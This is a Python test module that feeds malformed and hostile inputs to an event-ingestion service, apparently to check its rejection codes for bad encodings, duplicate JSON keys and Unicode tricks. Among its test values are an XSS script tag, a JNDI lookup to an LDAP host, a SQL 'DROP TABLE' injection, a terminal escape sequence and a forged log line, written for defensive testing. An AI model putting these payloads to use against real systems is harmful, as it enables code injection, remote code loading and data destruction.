"""Bytes that are no text, text that is no JSON, JSON that says one thing twice, and text that is not what it seems."""

from __future__ import annotations

from typing import Final

from tests.corpus.hostile import GTIN, Classes, Given, event, over_kafka, structured, text_of, with_raw
from tests.corpus.hostile import Record as KafkaRecord

BIDI_OVERRIDE, ZERO_WIDTH, COMBINING, CYRILLIC_A = "\u202e", "\u200b", "\u0301", "\u0430"
FULL_WIDTH: Final = {ord("0") + digit: 0xFF10 + digit for digit in range(10)}
NOISE_BYTES: Final = 4096


def classes(given: Given) -> Classes:
    yield from _no_text(given)
    yield from _no_json(given)
    yield from _duplicate_keys(given)
    yield from _unicode(given)


def _no_text(given: Given) -> Classes:
    whole = text_of(given.event("text"))
    yield over_kafka("null_value", "a tombstone", KafkaRecord(b"key", None, ()), "no_value")
    yield structured("empty_value", "no byte at all", b"", 400, "json")
    yield structured("white_space", "nothing but white space", b" \r\n\t" * 100, 400, "json")
    yield structured("noise", "random bytes", b"\xff" + given.random.randbytes(NOISE_BYTES), 400, "encoding")
    yield structured("utf16", "UTF-16 with a byte order mark", whole.decode().encode("utf-16"), 400, "encoding")
    yield structured("utf8_mark", "a byte order mark before UTF-8", b"\xef\xbb\xbf" + whole, 400, "json")
    for name, what, raw in (
        ("latin1", "ISO 8859-1 in place of UTF-8", "th\xf4ng".encode("latin-1")),
        ("overlong_utf8", "a slash in two bytes, which a careless decoder takes", b"\xc0\xaf"),
        ("surrogate_bytes", "half a surrogate pair written as UTF-8 (CESU-8)", b"\xed\xa0\x80"),
        ("cut_utf8", "a character cut in two", b"\xe2\x82"),
    ):
        yield structured(name, what, with_raw(given.event(name), "certificate", b'"' + raw + b'"'), 400, "encoding")


def _no_json(given: Given) -> Classes:
    whole = text_of(given.event("json"))
    for name, what, content in (
        ("plain_text", "a sentence", b"batch A1 was released"),
        ("xml", "XML under the name of JSON", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>"),
        ("truncated", "JSON that ends in the middle", whole[: len(whole) // 2]),
        ("trailing", "a second value behind the first", whole + b" " + whole),
        ("json_lines", "two events, one a line", whole + b"\n" + whole),
        ("single_quotes", "Python's quotes", b"{'specversion': '1.0'}"),
        ("comments", "comments, as in JSON5", b"/* */" + whole),
        ("trailing_comma", "a comma too many", whole[:-1] + b",}"),
        ("schema_registry", "a schema registry's five bytes in front", b"\x00\x00\x00\x00\x07" + whole),
        ("bare_control", "a control character, not escaped", with_raw(given.event("json"), "certificate", '"a\x01b"')),
    ):
        yield structured(name, what, content, 400, "json")
    for name, what, content in (
        ("json_null", "null", b"null"),
        ("json_number", "a number", b"7"),
        ("json_list", "a list where an object must be", b"[" + whole + b"]"),
        ("json_in_json", "an event as text inside JSON", text_of(whole.decode())),
    ):
        yield structured(name, what, content, 400, "no_cloudevent")


def _duplicate_keys(given: Given) -> Classes:
    told = given.event("twice")
    whole = text_of(told)
    foreign = f'{{"source": "{given.foreign_source}", '.encode()
    nested = '[{"gtin": "1", "lot": "A", "quantity": 1, "quantity": 2}]'
    for name, what, content in (
        ("key_twice", "two sources, of which one is another's", foreign + whole[1:]),
        ("data_key_twice", "two quantities", with_raw(told, "quantity", '1, "quantity": 2')),
        ("escaped_key_twice", "the same key once more, escaped", with_raw(told, "quantity", '1, "\\u0071uantity": 2')),
        ("nested_key_twice", "two quantities of an input", with_raw(told, "inputs", nested)),
    ):
        yield structured(name, what, content, 400, "duplicate_key")


def _unicode(given: Given) -> Classes:
    def reason(name: str, text: str) -> bytes:
        return with_raw(given.event(name, "batch.rejected"), "reason", f'"{text}"')

    for name, what, escaped in (
        ("lone_surrogate", "the first half of a surrogate pair", "a\\ud800b"),
        ("swapped_surrogates", "a surrogate pair the wrong way round", "\\udc00\\ud800"),
        ("nul", "a NUL, at which C ends a text", "a\\u0000b"),
        ("escape_sequence", "an escape sequence for the terminal of whoever reads", "\\u001b[2J"),
        ("line_break", "a line break, to forge a line of a log", "fine\\n2026-11-23 ERROR forged"),
        ("next_line", "a control character above ASCII", "a\\u0085b"),
    ):
        yield structured(name, what, reason(name, escaped), 400, "control_character")
    key = text_of({**given.event("key"), "data": {"a": 1}}).replace(b'"a"', b'"\\ud800"')
    yield structured("surrogate_key", "half a surrogate pair in a key", key, 400, "control_character")
    for name, what, text in (
        ("bidirectional", "an override of the direction of text: odd, and legal", f"{BIDI_OVERRIDE}gnorw saw"),
        ("stacked_marks", "a tower of combining marks: odd, and legal", "a" + COMBINING * 900),
        ("beyond_the_plane", "characters beyond 16 bits", "\U0001f48a\U00020000"),
        ("markup", "markup and a script, which pages must show as text", "<script>alert(1)</script>&amp;"),
        ("lookup", "a look-up that a logger could follow", "${jndi:ldap://example.org/a}{0.__class__}%s%n"),
        ("sql", "a statement that a query could run", "x'); DROP TABLE journal; --"),
    ):
        yield structured(name, what, reason(name, text), 202)
    for name, what, changes, code in (
        ("full_width_digits", "a GTIN in full-width digits", {"gtin": GTIN.translate(FULL_WIDTH)}, "pattern"),
        ("full_width_date", "a day in full-width digits", {"released_on": "2026-03-12".translate(FULL_WIDTH)}, "date"),
        ("zero_width", "a lot with a space of no width", {"lot": f"A1{ZERO_WIDTH}"}, "pattern"),
        ("outer_space", "a text that ends in a space without break", {"certificate": "C1\u00a0"}, "pattern"),
    ):  # fmt: skip
        yield event(name, what, given.event(name, **changes), 422, code)
    lookalike = {**given.event("lookalike"), "type": f"supply.b{CYRILLIC_A}tch.released.v1"}
    yield event("lookalike_type", "a type with a Cyrillic letter", lookalike, 422, "unknown_type")
